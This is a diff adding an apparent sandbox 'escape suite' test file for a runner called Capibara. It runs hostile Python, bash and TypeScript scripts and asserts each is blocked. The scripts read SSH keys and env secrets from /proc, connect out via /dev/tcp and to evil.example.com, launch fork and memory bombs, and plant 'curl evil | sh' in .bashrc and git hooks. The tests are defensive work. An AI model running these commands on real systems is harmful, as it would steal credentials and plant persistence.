@@ -1,0 +1,705 @@
+/**
+ * The escape suite: hostile scripts in Python, bash and TypeScript, each run through the real
+ * runner (the SDK, real runtimes, the real sandbox backend), each asserting that the attempt
+ * failed AND that the host is unchanged. A script that exits 0 having done what it tried is a
+ * breach. The suite ends with `escape suite: N attacks, N blocked`.
+ *
+ * Hostile scripts reach the runner through an in-process generator, so the static checks (which
+ * would refuse most of them before they are stored) are not what is tested here: the sandbox is.
+ */
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { Capibara, type CapibaraOptions } from "../src/capibara.ts";
+import { CapibaraError, ExecError, PermissionError, ValidationError } from "../src/errors.ts";
+import type { Generator } from "../src/generate/openai.ts";
+import type { Bundle, Language } from "../src/schema.ts";
+import { platformBackend } from "../src/sandbox/mod.ts";
+
+const backend = platformBackend();
+const OS_SANDBOX = backend !== undefined && (await backend.available()).ok;
+if (!OS_SANDBOX) {
+  console.warn(
+    "SKIPPED: Python and bash escape tests need bubblewrap (apt-get install bubblewrap socat)",
+  );
+}
+
+const CACHE = await Deno.makeTempDir({ prefix: "capibara_escape_cache_" });
+const ROOT = await Deno.realPath(await Deno.makeTempDir({ prefix: "capibara_escape_" }));
+globalThis.addEventListener("unload", () => {
+  Deno.removeSync(CACHE, { recursive: true });
+  Deno.removeSync(ROOT, { recursive: true });
+});
+
+// The host: a fake HOME with secrets, another project, and a service on loopback.
+const HOME = join(ROOT, "home");
+const OTHER = join(ROOT, "other-project");
+const PROJECT = join(ROOT, "project");
+const SSH_KEY = join(HOME, ".ssh", "id_rsa");
+const SSH_SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- hunter2";
+const OTHER_SECRET = "other project's secret";
+const ENV_SECRET = "sk-live-do-not-leak-0123456789";
+await Deno.mkdir(join(HOME, ".ssh"), { recursive: true });
+await Deno.writeTextFile(SSH_KEY, SSH_SECRET);
+await Deno.mkdir(OTHER, { recursive: true });
+await Deno.writeTextFile(join(OTHER, "secret.txt"), OTHER_SECRET);
+await Deno.mkdir(join(PROJECT, "data"), { recursive: true });
+await Deno.mkdir(join(PROJECT, ".git", "hooks"), { recursive: true });
+await Deno.writeTextFile(join(PROJECT, ".git", "config"), "[core]\n");
+await Deno.writeTextFile(join(PROJECT, "data", "in.txt"), "input data\n");
+await Deno.symlink(join(OTHER, "secret.txt"), join(PROJECT, "data", "link.txt"));
+
+let serviceHits = 0;
+const service = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
+  serviceHits++;
+  return new Response("host service says hi");
+});
+const SERVICE_PORT = service.addr.port;
+globalThis.addEventListener("unload", () => void service.shutdown());
+
+let attacks = 0;
+let blocked = 0;
+
+function fixedGenerator(bundle: Bundle): Generator {
+  return {
+    generate() {
+      return Promise.resolve({ bundle, model: "hostile", attempts: 1 });
+    },
+  };
+}
+
+/** A Python script: `body` sets `breached = True` (and `detail`) when the attack worked. */
+function py(body: string): string {
+  const indented = body.split("\n").map((l) => "    " + l).join("\n");
+  return `import json, os, sys
+ctx = {}
+if "--context" in sys.argv:
+    value = sys.argv[sys.argv.index("--context") + 1]
+    ctx = json.load(open(value[1:])) if value.startswith("@") else json.loads(value)
+breached = False
+detail = ""
+artifacts = []
+try:
+${indented}
+except BaseException as exc:
+    detail = "blocked: " + repr(exc)[:300]
+print(json.dumps({"status": "ok", "artifacts": artifacts, "output": {"breached": breached, "detail": detail}, "raw": {}}))
+`;
+}
+
+/** A bash script: `body` sets `breached=1` when the attack worked. */
+function sh(body: string): string {
+  return `breached=0
+detail=""
+${body}
+if [ "$breached" = 1 ]; then b=true; else b=false; fi
+printf '{"status":"ok","artifacts":[],"output":{"breached":%s,"detail":"%s"},"raw":{}}\\n' "$b" "$(printf %s "$detail" | tr -d '"\\\\' | head -c 200)"
+`;
+}
+
+/** A TypeScript script: `body` sets `breached = true` when the attack worked. */
+function ts(body: string): string {
+  return `let breached = false;
+let detail = "";
+try {
+${body}
+} catch (error) {
+  detail = "blocked: " + String(error).slice(0, 300);
+}
+console.log(JSON.stringify({ status: "ok", artifacts: [], output: { breached, detail }, raw: {} }));
+`;
+}
+
+interface Attack {
+  name: string;
+  language: Language;
+  script: string;
+  context?: Record<string, unknown>;
+  needs?: { network?: string[]; env?: string[] };
+  allow?: CapibaraOptions["allow"];
+  timeout?: number;
+  /** Errors that count as blocked (default: any Capibara error). */
+  blockedBy?: (new (...args: never[]) => CapibaraError)[];
+  /** Host-side check that nothing changed; throws when something did. */
+  hostUnchanged?: () => Promise<void>;
+  /** For granted cases: what the result must be. */
+  granted?: (output: Record<string, unknown>) => void;
+}
+
+async function exists(path: string): Promise<boolean> {
+  try {
+    await Deno.lstat(path);
+    return true;
+  } catch {
+    return false;
+  }
+}
+
+async function processesMatching(pattern: string): Promise<string[]> {
+  const out = await new Deno.Command("pgrep", { args: ["-af", pattern], stdout: "piped" }).output();
+  return new TextDecoder().decode(out.stdout).split("\n").filter((l) =>
+    l.trim() !== "" && !l.includes("pgrep")
+  );
+}
+
+function attack(a: Attack): void {
+  const needsOs = a.language !== "typescript";
+  Deno.test({
+    name: `escape: ${a.language}: ${a.name}`,
+    ignore: needsOs && !OS_SANDBOX,
+    sanitizeOps: false,
+    sanitizeResources: false,
+    async fn() {
+      attacks++;
+      const bundle: Bundle = {
+        language: a.language,
+        script: a.script,
+        requirements: [],
+        outputs: {},
+        aliases: {},
+        needs: { network: a.needs?.network ?? [], env: a.needs?.env ?? [] },
+        readme: "",
+      };
+      const cb = new Capibara({
+        root: PROJECT,
+        cwd: PROJECT,
+        cacheDir: CACHE,
+        generator: fixedGenerator(bundle),
+        env: {
+          PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
+          HOME,
+          SECRET_TOKEN: ENV_SECRET,
+          GRANTED_VAR: "granted-value",
+        },
+        timeout: a.timeout ?? 30,
+        memoryBytes: 256 * 1024 ** 2,
+        maxProcesses: 64,
+        allow: a.allow,
+        warn: () => {},
+      });
+      let output: Record<string, unknown> | undefined;
+      let error: unknown;
+      try {
+        output = (await cb.run(`escape test: ${a.language}: ${a.name}`, {
+          context: a.context ?? {},
+          language: a.language,
+        })).output;
+      } catch (e) {
+        error = e;
+      }
+      if (a.granted) {
+        assert.equal(error, undefined, `granted case failed: ${error}`);
+        a.granted(output!);
+      } else if (error !== undefined) {
+        const kinds = a.blockedBy ?? [CapibaraError];
+        assert.ok(
+          kinds.some((k) => error instanceof k),
+          `unexpected failure: ${error instanceof Error ? error.stack : error}`,
+        );
+      } else {
+        assert.equal(output?.breached, false, `BREACH: ${JSON.stringify(output)}`);
+      }
+      await a.hostUnchanged?.();
+      blocked++;
+    },
+  });
+}
+
+const sshUnread = (o: Record<string, unknown>) =>
+  assert.ok(!String(o.detail).includes("hunter2"), "the key leaked into the output");
+
+// --- network (the one granted case comes last: until then the service must see no request) ----
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`import socket
+s = socket.create_connection(("127.0.0.1", ${SERVICE_PORT}), timeout=3)
+s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
+breached = b"host service" in s.recv(1000)`),
+    ],
+    [
+      "bash",
+      sh(
+        `if exec 3<>/dev/tcp/127.0.0.1/${SERVICE_PORT}; then printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; grep -q "host service" <&3 && breached=1; fi`,
+      ),
+    ],
+    [
+      "typescript",
+      ts(`const r = await fetch("http://127.0.0.1:${SERVICE_PORT}/");
+breached = (await r.text()).includes("host service");`),
+    ],
+  ] as const
+) {
+  attack({
+    name: "connect to a host service on loopback",
+    language,
+    script,
+    hostUnchanged() {
+      assert.equal(serviceHits, 0, "the host service was reached");
+      return Promise.resolve();
+    },
+  });
+}
+
+attack({
+  name: "DNS lookup",
+  language: "python",
+  script: py(`import socket
+breached = len(socket.getaddrinfo("registry.npmjs.org", 443)) > 0`),
+});
+attack({
+  name: "DNS lookup",
+  language: "bash",
+  script: sh(`getent hosts registry.npmjs.org >/dev/null 2>&1 && breached=1`),
+});
+attack({
+  name: "DNS lookup",
+  language: "typescript",
+  script: ts(`breached = (await Deno.resolveDns("registry.npmjs.org", "A")).length > 0;`),
+});
+attack({
+  name: "reach a non-granted host through the proxy",
+  language: "python",
+  needs: { network: ["api.granted.test"] },
+  allow: { network: ["api.granted.test"] },
+  script: py(`import urllib.request
+for url in ["http://evil.example.com/", "http://127.0.0.1:${SERVICE_PORT}/", "http://granted.test/"]:
+    try:
+        urllib.request.urlopen(url, timeout=5).read()
+        breached = True
+        detail = url
+    except Exception as exc:
+        detail += " " + repr(exc)[:80]`),
+  hostUnchanged() {
+    assert.equal(serviceHits, 0, "the host service was reached");
+    return Promise.resolve();
+  },
+});
+attack({
+  name: "reach a non-granted host with curl through the proxy (CONNECT)",
+  language: "bash",
+  needs: { network: ["api.granted.test"] },
+  allow: { network: ["api.granted.test"] },
+  script: sh(
+    `if command -v curl >/dev/null; then curl -sf --max-time 5 https://evil-granted.test/ >/dev/null && breached=1; fi
+exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT evil.example.com:443 HTTP/1.1\\r\\nHost: evil.example.com:443\\r\\n\\r\\n' >&3 && head -1 <&3 | grep -q " 200" && breached=1`,
+  ),
+});
+attack({
+  name: "a granted host through the proxy still works",
+  language: "python",
+  needs: { network: [`127.0.0.1:${SERVICE_PORT}`] },
+  allow: { network: [`127.0.0.1:${SERVICE_PORT}`] },
+  script: py(`import urllib.request
+body = urllib.request.urlopen("http://127.0.0.1:${SERVICE_PORT}/", timeout=10).read().decode()
+detail = body`),
+  granted(o) {
+    assert.equal(o.detail, "host service says hi");
+  },
+});
+
+// --- files -----------------------------------------------------------------------------------
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`detail = open(${JSON.stringify(SSH_KEY)}).read()\nbreached = "hunter2" in detail`),
+    ],
+    ["bash", sh(`detail=$(cat ${SSH_KEY} 2>&1); case "$detail" in *hunter2*) breached=1;; esac`)],
+    [
+      "typescript",
+      ts(
+        `detail = Deno.readTextFileSync(${
+          JSON.stringify(SSH_KEY)
+        }); breached = detail.includes("hunter2");`,
+      ),
+    ],
+  ] as const
+) {
+  attack({ name: "read ~/.ssh/id_rsa of the real HOME", language, script });
+}
+attack({
+  name: "read ~/.ssh via $HOME and expanduser",
+  language: "python",
+  script: py(`p = os.path.expanduser("~/.ssh/id_rsa")
+detail = p
+breached = os.path.exists(p) and "hunter2" in open(p).read()`),
+});
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(
+        `breached = ${JSON.stringify(OTHER_SECRET)} in open(${
+          JSON.stringify(join(OTHER, "secret.txt"))
+        }).read()`,
+      ),
+    ],
+    ["bash", sh(`grep -q "secret" ${join(OTHER, "secret.txt")} 2>/dev/null && breached=1`)],
+    [
+      "typescript",
+      ts(
+        `breached = Deno.readTextFileSync(${
+          JSON.stringify(join(OTHER, "secret.txt"))
+        }).includes("secret");`,
+      ),
+    ],
+  ] as const
+) {
+  attack({ name: "read another project's file", language, script });
+}
+
+const PLANTED = join(OTHER, "planted.txt");
+const noPlant = async () =>
+  assert.equal(await exists(PLANTED), false, "a file was planted outside");
+for (
+  const [language, script] of [
+    ["python", py(`open(${JSON.stringify(PLANTED)}, "w").write("x")\nbreached = True`)],
+    ["bash", sh(`echo x > ${PLANTED} 2>/dev/null && breached=1`)],
+    ["typescript", ts(`Deno.writeTextFileSync(${JSON.stringify(PLANTED)}, "x"); breached = true;`)],
+  ] as const
+) {
+  attack({
+    name: "write outside the outputs",
+    language,
+    script,
+    context: { output: "out/result.txt" },
+    hostUnchanged: noPlant,
+  });
+}
+attack({
+  name: "write into the workdir when only out/ is writable",
+  language: "python",
+  context: { output: "out/result.txt" },
+  script: py(`open("sneaky.txt", "w").write("x")\nbreached = True`),
+  hostUnchanged: async () => assert.equal(await exists(join(PROJECT, "sneaky.txt")), false),
+});
+
+const ranMarker = join(ROOT, "ran-marker");
+const neverRan = async () => assert.equal(await exists(ranMarker), false, "the script ran");
+for (
+  const [name, context] of [
+    ["a ../ context path", { input: "../other-project/secret.txt" }],
+    ["an absolute context path outside", { input: join(OTHER, "secret.txt") }],
+    ["a symlink in the workdir pointing out", { input: "data/link.txt" }],
+    ["a ~ context path", { input: "~/.ssh/id_rsa" }],
+    ["a nested ../ output path", { job: { output: "out/../../other-project/x.txt" } }],
+  ] as const
+) {
+  attack({
+    name: `refused before running: ${name}`,
+    language: "python",
+    context,
+    script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
+    blockedBy: [ValidationError],
+    hostUnchanged: neverRan,
+  });
+}
+attack({
+  name: "report an artifact outside the outputs",
+  language: "python",
+  context: { output: "out/result.txt" },
+  script: py(`artifacts = ["../other-project/secret.txt"]`),
+  blockedBy: [ValidationError],
+});
+
+// --- secrets ---------------------------------------------------------------------------------
+for (
+  const [language, script] of [
+    ["python", py(`detail = os.environ.get("SECRET_TOKEN", "")\nbreached = "sk-live" in detail`)],
+    ["bash", sh(`[ -n "\${SECRET_TOKEN:-}" ] && breached=1`)],
+    ["typescript", ts(`breached = (Deno.env.get("SECRET_TOKEN") ?? "").includes("sk-live");`)],
+  ] as const
+) {
+  attack({ name: "read an env secret that was not granted", language, script });
+}
+attack({
+  name: "read secrets from /proc/1/environ and the parent's environ",
+  language: "python",
+  script: py(`found = ""
+for pid in ["1", str(os.getppid()), "self"]:
+    try:
+        found += open(f"/proc/{pid}/environ", "rb").read().decode(errors="ignore")
+    except Exception:
+        pass
+breached = "sk-live" in found`),
+});
+attack({
+  name: "a granted env var is passed",
+  language: "python",
+  needs: { env: ["GRANTED_VAR"] },
+  allow: { env: ["GRANTED_VAR"] },
+  script: py(
+    `detail = os.environ.get("GRANTED_VAR", "") + "|" + os.environ.get("SECRET_TOKEN", "")`,
+  ),
+  granted(o) {
+    assert.equal(o.detail, "granted-value|");
+  },
+});
+attack({
+  name: "a need that was not granted stops the run",
+  language: "python",
+  needs: { env: ["SECRET_TOKEN"] },
+  script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
+  blockedBy: [PermissionError],
+  hostUnchanged: neverRan,
+});
+
+// --- limits ----------------------------------------------------------------------------------
+attack({
+  name: "fork bomb (bounded: tries 5,000 processes)",
+  language: "python",
+  timeout: 60,
+  script: py(`import subprocess
+procs = []
+for i in range(5000):
+    try:
+        procs.append(subprocess.Popen(["sleep", "20"]))
+    except OSError as exc:
+        detail = f"stopped at {i}: {exc!r}"
+        break
+breached = len(procs) >= 5000
+for p in procs:
+    p.kill()`),
+  hostUnchanged: async () => assert.deepEqual(await processesMatching("^sleep 20$"), []),
+});
+attack({
+  name: "fork bomb (bounded: tries 5,000 processes)",
+  language: "bash",
+  timeout: 60,
+  script: sh(`n=0
+for i in $(seq 1 5000); do sleep 21 2>/dev/null & [ $? = 0 ] || break; n=$((n+1)); done
+started=$(jobs -p | wc -l)
+[ "$started" -ge 5000 ] && breached=1
+detail="started $started"
+kill $(jobs -p) 2>/dev/null`),
+  hostUnchanged: async () => assert.deepEqual(await processesMatching("^sleep 21$"), []),
+});
+attack({
+  name: "memory bomb (4x the limit)",
+  language: "python",
+  script: py(`blocks = []
+for _ in range(64):
+    blocks.append(bytearray(16 * 1024 * 1024))
+breached = True
+detail = "allocated 1 GiB"`),
+});
+attack({
+  name: "endless loop (timeout, then no process left)",
+  language: "python",
+  timeout: 2,
+  script: py(`import time
+while True:
+    time.sleep(0.01)  # capibara-endless-loop-marker`),
+  blockedBy: [ExecError],
+  hostUnchanged: async () => {
+    await new Promise((r) => setTimeout(r, 200));
+    assert.deepEqual(await processesMatching("escape test: python: endless"), []);
+    assert.deepEqual(await processesMatching(`${PROJECT}/.capibara/scripts/.*script.py`), []);
+  },
+});
+attack({
+  name: "endless loop (timeout)",
+  language: "bash",
+  timeout: 2,
+  script: sh(`while :; do :; done`),
+  blockedBy: [ExecError],
+});
+attack({
+  name: "flood stdout (64 MiB)",
+  language: "python",
+  script: py(`chunk = "x" * (1024 * 1024) + "\\n"
+for _ in range(64):
+    sys.stdout.write(chunk)
+breached = True`),
+  blockedBy: [ExecError],
+});
+attack({
+  name: "spawn a daemon that outlives the run",
+  language: "python",
+  script: py(`import subprocess
+subprocess.Popen(["setsid", "sleep", "31337"], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("sleep", ["sleep", "31338"])
+    os._exit(0)`),
+  hostUnchanged: async () => {
+    await new Promise((r) => setTimeout(r, 300));
+    assert.deepEqual(await processesMatching("sleep 3133[78]"), [], "a daemon survived the run");
+  },
+});
+attack({
+  name: "spawn a daemon that outlives the run",
+  language: "bash",
+  script: sh(`setsid nohup sleep 31339 >/dev/null 2>&1 &
+disown`),
+  hostUnchanged: async () => {
+    await new Promise((r) => setTimeout(r, 300));
+    assert.deepEqual(await processesMatching("sleep 31339"), [], "a daemon survived the run");
+  },
+});
+
+// --- the cache and the repository -------------------------------------------------------------
+const storeHashes = async () => {
+  const out: Record<string, string> = {};
+  for await (const fp of Deno.readDir(join(PROJECT, ".capibara", "scripts"))) {
+    for await (const f of Deno.readDir(join(PROJECT, ".capibara", "scripts", fp.name))) {
+      out[`${fp.name}/${f.name}`] = await Deno.readTextFile(
+        join(PROJECT, ".capibara", "scripts", fp.name, f.name),
+      );
+    }
+  }
+  return out;
+};
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`import glob
+for path in glob.glob(${JSON.stringify(PROJECT)} + "/.capibara/scripts/*/script.py"):
+    try:
+        with open(path, "a") as fh:
+            fh.write("\\n# ow" + "ned\\n")
+        breached = True
+    except OSError as exc:
+        detail = repr(exc)`),
+    ],
+    [
+      "bash",
+      sh(
+        `for f in ${PROJECT}/.capibara/scripts/*/script.sh ${PROJECT}/.capibara/scripts/*/script.py; do echo "# ow""ned" >> "$f" 2>/dev/null && breached=1; done`,
+      ),
+    ],
+  ] as const
+) {
+  attack({
+    name: "modify its own cached script (workdir writable)",
+    language,
+    context: { output: "result.txt" },
+    script,
+    hostUnchanged: async () => {
+      for (const [name, text] of Object.entries(await storeHashes())) {
+        assert.ok(!text.includes("# owned"), `${name} was modified`);
+      }
+    },
+  });
+}
+attack({
+  name: "plant a git hook and change .git/config (workdir writable)",
+  language: "python",
+  context: { output: "result.txt" },
+  script: py(
+    `for path, text in [(".git/hooks/pre-commit", "#!/bin/sh\\ncurl evil"), (".git/config", "[core]\\nfsmonitor = evil")]:
+    try:
+        with open(path, "a") as fh:
+            fh.write(text)
+        breached = True
+    except OSError as exc:
+        detail += repr(exc)`,
+  ),
+  hostUnchanged: async () => {
+    assert.equal(await exists(join(PROJECT, ".git", "hooks", "pre-commit")), false);
+    assert.equal(await Deno.readTextFile(join(PROJECT, ".git", "config")), "[core]\n");
+  },
+});
+attack({
+  name: "plant a shell start-up file in the writable workdir's HOME-like files",
+  language: "bash",
+  context: { output: "result.txt" },
+  script: sh(
+    `echo 'curl evil | sh' >> ${PROJECT}/.bashrc 2>/dev/null && [ -s ${PROJECT}/.bashrc ] && breached=0
+echo 'curl evil | sh' >> ${HOME}/.bashrc 2>/dev/null && breached=1`,
+  ),
+  hostUnchanged: async () => assert.equal(await exists(join(HOME, ".bashrc")), false),
+});
+
+// --- TypeScript: Deno permissions --------------------------------------------------------------
+attack({
+  name: "Deno.Command to run a shell",
+  language: "typescript",
+  script: ts(`const out = new Deno.Command("sh", { args: ["-c", "echo pwned"] }).outputSync();
+breached = new TextDecoder().decode(out.stdout).includes("pwned");`),
+});
+attack({
+  name: "Deno.run (removed API) and a spawn of deno -A",
+  language: "typescript",
+  script: ts(`// deno-lint-ignore no-explicit-any
+const run = (Deno as any).run;
+if (run) { run({ cmd: ["sh", "-c", "true"] }); breached = true; }
+const out = new Deno.Command(Deno.execPath(), { args: ["eval", "console.log('escaped')"] }).outputSync();
+breached = breached || new TextDecoder().decode(out.stdout).includes("escaped");`),
+});
+attack({
+  name: "FFI: Deno.dlopen of libc",
+  language: "typescript",
+  script: ts(`const lib = Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } });
+breached = typeof lib.symbols.getpid() === "number";`),
+});
+attack({
+  name: "--allow-all tricks: permission requests and env/sys probes",
+  language: "typescript",
+  script: ts(`const asks = ["run", "ffi", "sys", "env", "net"] as const;
+for (const name of asks) {
+  const status = await Deno.permissions.request({ name } as Deno.PermissionDescriptor);
+  if (status.state === "granted") { breached = true; detail += name + " "; }
+}
+try { Deno.hostname(); breached = true; detail += "sys"; } catch { /* denied */ }`),
+});
+attack({
+  name: "write into .capibara/ through a writable workdir",
+  language: "typescript",
+  context: { output: "result.txt" },
+  script: ts(`for (const e of Deno.readDirSync(${JSON.stringify(PROJECT)} + "/.capibara/scripts")) {
+  try {
+    Deno.writeTextFileSync(${
+    JSON.stringify(PROJECT)
+  } + "/.capibara/scripts/" + e.name + "/script.ts", "// ow" + "ned", { append: true });
+    breached = true;
+  } catch (err) { detail = String(err); }
+}`),
+  hostUnchanged: async () => {
+    for (const [name, text] of Object.entries(await storeHashes())) {
+      assert.ok(!text.includes("// owned"), `${name} was modified`);
+    }
+  },
+});
+
+// --- granted cases still work ------------------------------------------------------------------
+attack({
+  name: "a granted write path works",
+  language: "python",
+  allow: { write: [join(OTHER, "exports")] },
+  script: py(`os.makedirs(${JSON.stringify(join(OTHER, "exports"))}, exist_ok=True)
+open(${JSON.stringify(join(OTHER, "exports", "ok.txt"))}, "w").write("granted")
+detail = "wrote"`),
+  granted(o) {
+    assert.equal(o.detail, "wrote");
+    assert.equal(Deno.readTextFileSync(join(OTHER, "exports", "ok.txt")), "granted");
+  },
+});
+attack({
+  name: "inputs named by the context are readable, outputs writable",
+  language: "typescript",
+  context: { input: "data/in.txt", output: "out/copy.txt" },
+  script: ts(`const text = Deno.readTextFileSync("data/in.txt");
+Deno.mkdirSync("out", { recursive: true });
+Deno.writeTextFileSync("out/copy.txt", text);
+detail = text.trim();`),
+  granted(o) {
+    assert.equal(o.detail, "input data");
+    assert.equal(Deno.readTextFileSync(join(PROJECT, "out", "copy.txt")), "input data\n");
+  },
+});
+
+Deno.test({
+  name: "escape suite summary",
+  sanitizeOps: false,
+  sanitizeResources: false,
+  fn() {
+    console.log(`escape suite: ${attacks} attacks, ${blocked} blocked`);
+    assert.equal(blocked, attacks, "an attack got through (see the failures above)");
+    assert.ok(attacks >= (OS_SANDBOX ? 30 : 8), `only ${attacks} attacks ran`);
+  },
+});
